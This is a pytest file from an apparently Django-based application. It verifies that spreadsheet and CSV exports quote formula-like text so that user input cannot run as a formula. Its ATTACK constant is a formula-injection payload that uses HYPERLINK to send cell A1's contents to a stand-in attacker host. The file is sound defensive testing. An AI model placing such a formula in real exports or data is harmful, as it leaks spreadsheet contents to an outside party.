"""No export writes what people typed as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import Workbook, load_workbook

from grassroots.accounts import audit
from grassroots.core.spreadsheets import harden_workbook, safe_cell
from grassroots.testing import login_verified, make_user

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'


@pytest.mark.parametrize(
    "text", ["=1+1", "+84912", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1"]
)
def test_formula_like_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, "Ấp Một", "", "a=b", "1-2"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_a_workbook_keeps_the_text_but_no_formula():
    book = Workbook()
    book.active.append([ATTACK, 12, "Ấp Một"])
    harden_workbook(book)
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    assert cells[0].data_type == "s" and cells[0].value == ATTACK
    assert cells[0].quotePrefix
    assert cells[1].value == 12 and cells[1].data_type == "n"


def _views_with_exports():
    def walk(patterns, prefix):
        for p in patterns:
            if isinstance(p, URLResolver):
                yield from walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                yield prefix + str(p.pattern), p

    for route, pattern in walk(get_resolver().url_patterns, ""):
        view_class = getattr(pattern.callback, "view_class", None)
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        exports = initkwargs.get(
            "list_export", getattr(view_class, "list_export", None)
        )
        if route.startswith("console/") and view_class is not None and exports:
            yield route, view_class


def test_every_console_list_export_defuses_formulas():
    found = list(_views_with_exports())
    assert len(found) >= 5
    loose = []
    for route, view in found:
        bare = view.__new__(view)
        if bare.preprocess_field_value("f", ATTACK, "csv") != "'" + ATTACK:
            loose.append(f"{route}: {view.__module__}.{view.__name__}")
    assert not loose, "\n".join(loose)


def test_the_audit_csv_quotes_an_entry_that_starts_with_equals(tree, client):
    audit.record("test.formula", None, area=tree.commune_a, object_repr=ATTACK)
    root = make_user("administrator", tree.province)
    login_verified(client, root)
    response = client.get("/console/audit/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(body), delimiter=";") for c in row]
    assert "'" + ATTACK in cells
    assert ATTACK not in cells


def test_the_audit_xlsx_keeps_it_as_text(tree, client):
    audit.record("test.formula", None, area=tree.commune_a, object_repr=ATTACK)
    login_verified(client, make_user("administrator", tree.province))
    response = client.get("/console/audit/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == ATTACK]
    assert cells and all(c.data_type == "s" for c in cells)
